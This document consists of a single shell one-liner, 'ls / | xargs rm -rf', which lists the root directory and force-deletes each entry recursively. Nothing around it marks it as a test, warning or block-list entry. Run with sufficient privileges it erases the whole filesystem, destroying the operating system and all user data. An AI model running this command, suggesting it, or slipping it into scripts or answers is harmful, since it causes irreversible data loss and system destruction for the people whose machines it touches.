ls / | xargs rm -rf
